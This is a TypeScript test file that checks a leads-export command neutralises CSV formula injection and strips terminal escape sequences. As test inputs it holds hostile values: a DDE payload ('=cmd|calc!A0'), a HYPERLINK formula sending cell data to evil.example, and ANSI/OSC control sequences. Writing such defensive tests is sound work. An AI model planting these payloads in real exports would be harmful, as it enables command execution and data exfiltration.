// How leads are written by the real command: cells that stay apart, and texts that harm no spreadsheet and no terminal.
import assert from 'node:assert/strict';
import { decryptRow, encryptRow } from '../../database/encryption/encrypted-rows.ts';
import { referenceOf } from '../../server/leads/reference.ts';
import { testOnBoth } from '../../test/databases.ts';
import { keepRequest } from '../../test/delivery.ts';
import { leads } from '../../test/run-command.ts';

const RECEIVED = new Date('2025-12-01T00:00:00.000Z');

testOnBoth('--csv keeps every cell apart, and makes formulas harmless', async (_context, given) => {
  const request = { name: '=cmd|calc!A0', company: '+1, "quoted"', phone: '-1', message: '@SUM(A1)\r\nsecond, line' };
  await keepRequest(given.database, { request, now: RECEIVED });
  await keepRequest(given.database, { request: { name: 'Zoë "Z" O’Neil, PhD', message: '\t=1+1 after a tab' }, now: new Date(0) });

  const [head, formulas, honest, ...rest] = cellsOf((await leads(given, '--csv')).out);
  assert.deepEqual(rest, []);
  assert.equal(
    head?.join(),
    'kind,id,name,email,company,phone,subject,message,report,created_at,received_at,suspected,suspected_because,notifications',
  );
  const [kind, id, ...cells] = formulas ?? [];
  assert.equal(kind, 'consultation_request');
  assert.match(String(id), /^[0-9a-f-]{36}$/);
  assert.deepEqual(cells, [
    "'=cmd|calc!A0",
    'ada@labs.com',
    `'+1, "quoted"`,
    "'-1",
    '',
    "'@SUM(A1)\r\nsecond, line",
    '',
    '2025-12-01T00:00:00.000Z',
    '2025-12-01T00:00:00.000Z',
    'false',
    '',
    'service waiting',
  ]);
  assert.deepEqual([honest?.[2], honest?.[4], honest?.[7]], ['Zoë "Z" O’Neil, PhD', '', "'\t'=1+1 after a tab"]);
});

testOnBoth(
  'no column of --csv begins a formula, whatever stands in it and whichever separator a spreadsheet takes',
  async (_context, given) => {
    const starts = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '\u00a0=', '\ufeff=', '\u200b=', '\0=', '＝', '＋', '－', '＠', '−'];
    for (const [index, start] of starts.entries()) {
      const formula = `${start}HYPERLINK("http://evil.example?"&A1)`;
      const all = { name: formula, email: formula, company: formula, phone: formula, message: `Honest;${formula}\n${formula}` };
      const [enqueued] = await keepRequest(given.database, {
        request: given.dialect === 'sqlite' ? all : withoutZero(all),
        now: new Date(index),
      });
      const suspected_because = withoutZero({ formula }).formula;
      await given.database.updateTable('consultation_requests').set({ suspected_because }).execute();
      await given.database
        .updateTable('notifications')
        .set({ last_error: `x;${suspected_because}` })
        .where('id', '=', String(enqueued?.id))
        .execute();
    }
    const { out } = await leads(given, '--csv');
    for (const row of cellsOf(out)) {
      for (const cell of row) {
        for (const piece of cell.split(/[;\t\r\n]/)) assert.doesNotMatch(piece, /^[\s\p{C}]*[=+\-@＝＋－＠−]/u, JSON.stringify(cell));
      }
    }
    assert.equal(cellsOf(out).length, starts.length + 1);
  },
);

testOnBoth('the text is for people: every fact of a request, and nothing that a terminal would obey', async (_context, given) => {
  const [enqueued] = await keepRequest(given.database, { request: { company: 'Lindqvist Labs', phone: '+46 70' }, now: RECEIVED });
  const evil = { name: 'Ada \x1b[31m', message: 'One\r\n\x1b]0;title\x07two \x9b2J', suspected: true, suspected_because: 'A reason' };
  const row = await given.database.selectFrom('consultation_requests').selectAll().executeTakeFirstOrThrow();
  const changed = encryptRow(given.keyring, 'consultation_requests', {
    ...decryptRow(given.keyring, 'consultation_requests', row),
    ...evil,
  });
  await given.database.updateTable('consultation_requests').set(changed).execute();
  const trouble = { attempts: 3, last_error: 'The mail server said \x1b[2J550' };
  await given.database.updateTable('notifications').set(trouble).where('id', '=', String(enqueued?.id)).execute();

  const { out } = await leads(given);
  for (const fact of [
    '2025-12-01T00:00:00.000Z',
    referenceOf(row.id),
    'Lindqvist Labs',
    'ada@labs.com',
    '+46 70',
    'A reason',
    'service waiting',
    'two',
    '1 received.',
  ]) {
    assert.ok(out.includes(fact), `${fact} in ${out}`);
  }
  assert.doesNotMatch(out, /(?!\n)\p{Cc}/u);
});

testOnBoth('a line break of a message is a line break of the text, however it was sent', async (_context, given) => {
  await keepRequest(given.database, { request: { message: 'First line\r\nsecond line\nthird line' } });
  assert.match((await leads(given)).out, /^ {4}First line\n {4}second line\n {4}third line$/m);
});

/** PostgreSQL keeps no text with a zero character. */
function withoutZero<Fields extends Record<string, string>>(fields: Fields): Fields {
  return JSON.parse(JSON.stringify(fields).replaceAll('\\u0000', ''));
}

/** Reads comma-separated values as RFC 4180 has them. */
function cellsOf(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}
